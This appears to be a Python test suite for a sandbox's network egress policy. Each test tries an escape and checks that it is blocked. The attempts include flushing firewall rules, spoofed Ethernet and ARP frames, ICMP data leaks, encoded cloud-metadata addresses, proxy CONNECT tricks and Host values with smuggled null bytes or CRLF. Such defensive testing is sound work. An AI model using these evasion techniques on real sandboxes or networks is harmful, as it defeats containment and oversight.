"""NET: reaching the network without the policy."""

import contextlib
import os
import resource
import socket
import struct
import subprocess
import threading
import time

from attack import AAAA, CDN, EVIL, EVIL6, GATEWAY, NOERROR, NXDOMAIN, ORIGIN, REFUSAL

PORTS = (1, 22, 25, 80, 110, 443, 853, 3306, 5432, 6379, 8080, 8443, 27017, 31337, 65535)


def net_01(guest):
    guest.works()
    guest.together(lambda port: guest.refused(EVIL, port), PORTS)
    guest.denied(guest.get(None, "/", port=80, is_tls=False, address=EVIL))
    guest.refused(EVIL, 443, guest.hello("evil.test"))


def net_02(guest):
    # The name is allowed, the address is nobody's, or that of another host.
    for address in (EVIL, ORIGIN, CDN):
        guest.refused(address, 443, guest.hello("good.test"))
        answer = guest.get("good.test", address=address, port=80, is_tls=False)
        guest.denied(answer, "authority_mismatch", status=421)
    guest.works()


def unreachable(guest, address, port, within):
    # A machine that is busy makes a guest wait: the best of three tells.
    for _ in range(3):
        took = unreachable_after(guest, address, port)
        if took < within:
            return
    guest.check(False, f"{address} {port} took {took:.3f} s")


def unreachable_after(guest, address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(2)
        datagrams.connect((address, port))
        begun = time.monotonic()
        datagrams.send(b"\xc0\0\0\0\1" + os.urandom(1195))
        try:
            guest.keep(datagrams.recv(2048))
            guest.check(False, f"an answer from {address} {port}")
        except ConnectionRefusedError:
            pass
        except TimeoutError:
            guest.check(False, f"silence from {address} {port}")
        return time.monotonic() - begun


def net_03(guest):
    for address in (guest.address("good.test"), EVIL, EVIL6):
        for port in (443, 80, 8443):
            unreachable(guest, address, port, 0.1)
    # What a client then does instead.
    guest.works()


def net_04(guest):
    for port in (123, 3478, 51820, 4433, 1194, 500):
        for address in (EVIL, EVIL6, GATEWAY):
            unreachable(guest, address, port, 0.5)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def net_05(guest):
    payload = b"data that leaves in a ping".ljust(56, b".")
    body = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + payload
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    for address in (EVIL, GATEWAY, ORIGIN):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
            raw.settimeout(0.2)
            raw.sendto(body, (address, 0))
            heard(guest, raw, address)
    for address in (EVIL6, "fd54:6f6d:626f::1"):
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as raw:
            raw.settimeout(0.2)
            raw.sendto(struct.pack("!BBHHH", 128, 0, 0, 7, 1) + payload, (address, 0))
            heard(guest, raw, address, is_echo=lambda packet: packet[:1] == b"\x81")


def heard(guest, raw, address, is_echo=lambda packet: packet[20:21] == b"\0"):
    try:
        packet = guest.keep(raw.recv(2048))
        guest.check(not is_echo(packet), f"an echo of {address}")
    except TimeoutError:
        pass


def net_06(guest):
    sent = 0
    for number in (47, 132, 4, 41, 50, 51, 253, 2, 89, 112):
        for address in (EVIL, ORIGIN):
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as raw:
                sent += raw.sendto(b"\0" * 64, (address, 0)) > 0
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, number) as raw:
            sent += raw.sendto(b"\0" * 64, (EVIL6, 0)) > 0
    guest.check(sent == 30, f"{sent} were sent")


def net_07(guest):
    addresses = (
        EVIL6, "2a0e:1::2", "2a0e:4::2", "fe80::1%eth0", "fd00::1", "fec0::1", "::ffff:9.9.9.9",
        "64:ff9b::909:909", "64:ff9b::a9fe:a9fe", "2002:909:909::1", "2001:0:909:909::1",
        "::ffff:0:909:909", "::909:909", "fd00:ec2::254",
    )

    guest.together(lambda address: guest.refused(address, 443), addresses)
    for address in addresses:
        if address[:2] in ("26", "20", "64"):
            guest.denied(guest.get(None, port=80, is_tls=False, address=address))


METADATA = ("169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200", "192.0.0.192")


def net_08(guest):
    for address in METADATA + ("fd00:ec2::254",):
        answer = guest.get(None, "/latest/meta-data/", port=80, is_tls=False, address=address)
        guest.denied(answer, "metadata")
        guest.refused(address, 443, guest.hello("good.test"))
    for text in ("2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518"):
        address = socket.getaddrinfo(text, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
        guest.check(address == METADATA[0], f"{text} is {address}")
        guest.denied(guest.get(None, port=80, is_tls=False, address=address), "metadata")
    answer = guest.ask("metadata.google.internal")
    guest.check(answer == (NXDOMAIN, []), f"metadata.google.internal is {answer}")
    # A name that may be reached and leads there.
    guest.denied(guest.get("meta.test", port=80, is_tls=False), "metadata")


def net_09(guest):
    # What the gateway has for its guest is a name server, and nothing else.
    guest.together(lambda port: guest.refused(GATEWAY, port, within=2.0), (1, 22, 80, 111, 443, 2375, 3128, 8000, 8590, 15001))
    for address in (
        "10.77.0.1", "10.0.0.1", "172.17.0.1", "192.168.0.1", "100.64.0.5", "198.18.0.2", "192.0.0.1",
        "20.0.1.1", "20.0.4.1", "240.0.0.1", "fd54:6f6d:626f::1", "fd54:6f6d:626f:1::9",
    ):
        guest.refused(address, 2375)
        if address != "fd54:6f6d:626f:1::9":
            guest.denied(guest.get(None, port=80, is_tls=False, address=address))
    frame_to(guest, "127.0.0.1", 8000)
    guest.denied(guest.get("mixed.test", port=8000, is_tls=False), status=502)


def frame_to(guest, address, port, source="100.64.0.2", hardware=None, tag=b""):
    """A SYN as a frame of its own, past everything that the guest's kernel refuses."""
    own = bytes.fromhex("02546f6d6202")
    tcp = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 0x50, 2, 1024, 0, 0)
    ends = socket.inet_aton(source) + socket.inet_aton(address)
    tcp = tcp[:16] + struct.pack("!H", checksum(ends + struct.pack("!BBH", 0, 6, 20) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + ends
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    frame = bytes.fromhex("02546f6d6201") + (hardware or own) + tag + b"\x08\0" + ip + tcp
    wire(frame)


def wire(frame):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        raw.send(frame)


def net_10(guest):
    own, gateway, all_of_them = (bytes.fromhex(text) for text in ("02546f6d6202", "02546f6d6201", "f" * 12))
    # Each would be a record of the proxy if it were taken.
    frame_to(guest, EVIL, 443, source="100.64.0.9")
    frame_to(guest, EVIL, 443, source="20.0.1.2")
    frame_to(guest, EVIL, 443, hardware=bytes.fromhex("020000000099"))
    frame_to(guest, EVIL, 443, tag=b"\x81\0\0\1")
    frame_to(guest, EVIL, 443, tag=b"\x88\xa8\0\1\x81\0\0\1")
    claim = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    for address in ("100.64.0.1", "100.64.0.2", "100.64.0.3"):
        packed = socket.inet_aton(address)
        wire(all_of_them + own + b"\x08\x06" + claim + own + packed + own + packed)
    for address, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900), ("255.255.255.255", 67)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            datagrams.settimeout(0.05)
            datagrams.sendto(b"anybody there", (address, port))
            try:
                guest.check(not guest.keep(datagrams.recv(2048)), f"an answer to {address}")
            except (TimeoutError, ConnectionRefusedError):
                pass
    advertise = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as raw:
        raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        raw.sendto(advertise, ("ff02::1%eth0", 0))
    # The gateway is still where it was.
    guest.works()


def net_11(guest):
    plain = guest.get("good.test", "/same", port=80, is_tls=False)
    denied = guest.get(None, "/same", port=80, is_tls=False, address=EVIL)
    for name, address, expected in (("good.test", guest.address("good.test"), plain), (EVIL, EVIL, denied)):
        with guest.connect(address, 80) as connection:
            for byte in f"GET /same HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode():
                connection.sendall(bytes([byte]))
            read, _how = guest.read_all(connection)
        guest.check(guest.parse(read)[0] == expected[0], f"{name} differs: {read[:100]}")
    # Data in the SYN itself.
    with socket.socket() as connection:
        guest.count()
        connection.sendto(b"GET / HTTP/1.0\r\nHost: 9.9.9.9\r\n\r\n", socket.MSG_FASTOPEN, (EVIL, 80))
        guest.denied(guest.parse(guest.read_all(connection)[0]))
    # A question in two fragments is the question.
    question = guest.question("evil.test")
    question += b"\0" * (8 - (len(question) + 8) % 8)
    udp = struct.pack("!HHHH", 41000, 53, 8 + len(question), 0) + question
    guest.count()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("", 41000))
        datagrams.settimeout(5)
        for offset, piece in ((0, udp[:16]), (2, udp[16:])):
            more = 0x2000 if not offset else 0
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(piece), 77, more | offset, 64, 17, 0,
                             socket.inet_aton("100.64.0.2"), socket.inet_aton(GATEWAY))
            ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
            wire(bytes.fromhex("02546f6d620102546f6d62020800") + ip + piece)
        code, found = guest.understand(guest.keep(datagrams.recv(2048)))
        guest.check((code, found) in ((NOERROR, [REFUSAL]), (1, [])), f"the answer to fragments is {code} {found}")


def run(*words):
    """Whatever a guest has of these programs."""
    with contextlib.suppress(FileNotFoundError):
        subprocess.run(words, check=False, capture_output=True, timeout=20)


def net_12(guest):
    for line in (
        "nft flush ruleset", "iptables -F", "ip addr add 20.0.1.2/32 dev eth0", "ip addr add 192.168.7.7/24 dev eth0",
        "ip route add 9.9.9.0/24 via 100.64.0.1", "ip neigh replace 100.64.0.1 lladdr 02:54:6f:6d:62:01 dev eth0",
        "ip link set eth0 mtu 9000", "sysctl -w net.ipv4.ip_forward=1", "modprobe tun",
    ):
        run(*line.split())
    with open("/etc/resolv.conf", "w") as file:
        file.write("nameserver 9.9.9.9\n")
    for name in ("http_proxy", "https_proxy", "SSL_CERT_FILE"):
        os.environ.pop(name, None)
    guest.together(lambda port: guest.refused(EVIL, port), PORTS[:6])
    answer = guest.ask("evil.test", server="9.9.9.9")
    guest.check(answer == (NOERROR, [REFUSAL]), f"another name server answers {answer}")
    run("ip", "addr", "del", "20.0.1.2/32", "dev", "eth0")
    # An address of its own choice is nobody's.
    before = guest.attempts
    with socket.socket() as connection:
        connection.settimeout(0.3)
        connection.bind(("192.168.7.7", 0))
        try:
            connection.connect((EVIL, 443))
            guest.check(False, "another source address is taken")
        except TimeoutError:
            pass
    guest.check(before == guest.attempts, "counted")


def net_13(guest):
    found = getattr(socket, "AF_VSOCK", None)
    guest.check(found is not None, "this Python knows no vsock")
    for port in (1, 22, 1024, 2375, 5000, 8590, 65536):
        try:
            with socket.socket(found, socket.SOCK_STREAM) as connection:
                connection.settimeout(1)
                connection.connect((2, port))
                guest.check(False, f"the host listens on {port}")
        except OSError:
            pass
    guest.check(not os.path.exists("/dev/vsock") or not vsock_number(), "there is a way to the host")


def vsock_number():
    import fcntl

    try:
        with open("/dev/vsock", "rb") as device:
            packed = fcntl.ioctl(device, 0x7B9, b"\0" * 4)
        return struct.unpack("I", packed)[0] not in (0xFFFFFFFF, 1)
    except OSError:
        return False


def net_14(guest):
    # As early as anything can run; the rest is done by whoever made the sandbox.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        for _ in range(20):
            try:
                datagrams.sendto(b"early", (EVIL, 123))
            except OSError:
                pass
    guest.together(lambda port: guest.refused(EVIL, port, within=5.0), (22, 443))


def net_15(guest):
    """Holds connections open and tells when each of them ended."""
    secure = guest.tls(guest.connect(guest.address("good.test"), 443), "good.test")
    secure.sendall(b"GET /held HTTP/1.1\r\nHost: good.test\r\n\r\n")
    guest.check(b"200 OK" in guest.keep(secure.recv(65536)), "no answer")
    raw = guest.connect(guest.address("origin.test"), 5432)
    raw.sendall(b"held")
    guest.check(guest.keep(raw.recv(100)) == b"held", "no echo")
    ended = {}

    def wait(name, connection):
        connection.settimeout(30)
        ended[name] = guest.read_all(connection)[1]

    threads = [threading.Thread(target=wait, args=pair) for pair in (("tls", secure), ("raw", raw))]
    for thread in threads:
        thread.start()
    with open("/tmp/held", "w"):
        pass
    for thread in threads:
        thread.join()
    os.unlink("/tmp/held")
    guest.facts = ended
    guest.check("silent" not in ended.values(), f"still open: {ended}")


def net_16(guest):
    """While nobody carries anything, and after: told which by a word."""
    if guest.words == ["works"]:
        guest.works()
        return
    for address in (EVIL, ORIGIN):
        with socket.socket() as connection:
            connection.settimeout(0.5)
            try:
                connection.connect((address, 443))
                connection.sendall(b"out")
                guest.check(not guest.keep(connection.recv(100)), f"{address} answers")
            except OSError:
                pass


def net_18(guest):
    """More connections than there may be, all held."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    address, held, refused = guest.address("good.test"), [], 0
    for _ in range(1100):
        try:
            held.append(guest.connect(address, 80))
        except OSError:
            refused += 1
    with open("/tmp/held", "w"):
        pass
    # Those beyond the bound are reset at once, the others wait to be spoken on.
    for connection in held:
        connection.setblocking(False)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and refused < 70:
        for connection in list(held):
            try:
                if connection.recv(1) == b"":
                    held.remove(connection)
            except BlockingIOError:
                continue
            except OSError:
                refused += 1
                held.remove(connection)
        time.sleep(0.05)
    guest.facts = {"refused": refused, "held": len(held)}
    guest.check(refused >= 70, f"only {refused} were refused")
    while os.path.exists("/tmp/held") and time.monotonic() < deadline + 20:
        time.sleep(0.05)
    for connection in held:
        connection.close()


def net_20(guest):
    # The entry is for 443 and 5432.
    for port in (8443, 22, 8080):
        guest.refused(guest.address("origin.test"), port)
    guest.denied(guest.get("origin.test", port=80, is_tls=False))
    guest.works("origin.test")


def relay(port, address, to):
    """Another process of the guest that passes bytes on."""
    program = (
        "import socket,threading\n"
        f"l=socket.create_server(('127.0.0.1',{port}));c,_=l.accept();o=socket.create_connection(('{address}',{to}))\n"
        "def go(a,b):\n"
        "  try:\n"
        "    while d:=a.recv(65536): b.sendall(d)\n"
        "  except OSError: pass\n"
        "  for s in (a,b):\n"
        "    try: s.shutdown(2)\n"
        "    except OSError: pass\n"
        "threading.Thread(target=go,args=(o,c)).start();go(c,o)\n"
    )
    return subprocess.Popen(["sudo", "-u", "app", "python3", "-c", program])


def net_21(guest):
    for number, (name, address, code) in enumerate((("good.test", guest.address("good.test"), 200), (EVIL, EVIL, 403))):
        # What the proxy resets before the relay has said anything is tried again.
        for _ in range(3):
            with relay(9000 + number, address, 80) as process:
                for _ in range(200):
                    try:
                        answer = guest.get(name, address="127.0.0.1", port=9000 + number, is_tls=False, headers={})
                        break
                    except ConnectionRefusedError:
                        time.sleep(0.05)
                process.wait(timeout=10)
            if answer[0]:
                break
        # The relay's port is in the Host: nothing else is the same.
        guest.check(answer[0] in (code, 421), f"{name} through another process: {answer[0]}")
        guest.check(answer[0] != 200 or code == 200, "the relay got further")


def net_22(guest):
    connect = "CONNECT {0} HTTP/1.1\r\nHost: {0}\r\nConnection: close\r\n\r\n"
    for target in (f"{EVIL}:443", "evil.test:443", "good.test:443", "20.0.1.2:443"):
        answer = guest.talk("good.test", connect.format(target).encode(), port=80, is_tls=False)
        guest.check(guest.parse(answer)[0] in (405, 403, 421), f"CONNECT {target}: {answer[:100]}")
        guest.denied(guest.parse(guest.talk("good.test", connect.format(target).encode())), status=405)
    for port in (1080, 3128, 8080):
        guest.denied(guest.parse(guest.talk("x", connect.format(f"{EVIL}:443").encode(), port=port, is_tls=False, address=GATEWAY)), status=405)


HOSTILE = (
    "good.test\0.evil.test", "evil.test\0.good.test", "good.test%00.evil.test", "good.test .evil.test",
    "good.test\r.evil.test", "good.test@evil.test", "evil.test#good.test", "xn--good.test", "g\u00f6\u00f6d.test",
    "good.test" + "." + "a" * 250, "good.test..", ".good.test",
)


def net_23(guest):
    for name in HOSTILE:
        request = b"GET / HTTP/1.1\r\nHost: " + name.encode() + b"\r\nConnection: close\r\n\r\n"
        code = guest.parse(guest.talk("good.test", request, port=80, is_tls=False))[0]
        guest.check(code in (400, 421), f"{name!r}: {code}")
    for same in ("GOOD.TEST", "good.test.", "Good.Test:80"):
        request = f"GET / HTTP/1.1\r\nHost: {same}\r\nConnection: close\r\n\r\n"
        code = guest.parse(guest.talk("good.test", request.encode(), port=80, is_tls=False))[0]
        guest.check(code == 200, f"{same}: {code}")
    # SOCKS5, with the name of CVE-like fame: nobody speaks it.
    name = b"evil.test\0.good.test"
    for port in (1080, 9050):
        guest.refused(GATEWAY, port, b"\5\1\0\5\1\0\3" + bytes([len(name)]) + name + b"\1\xbb")
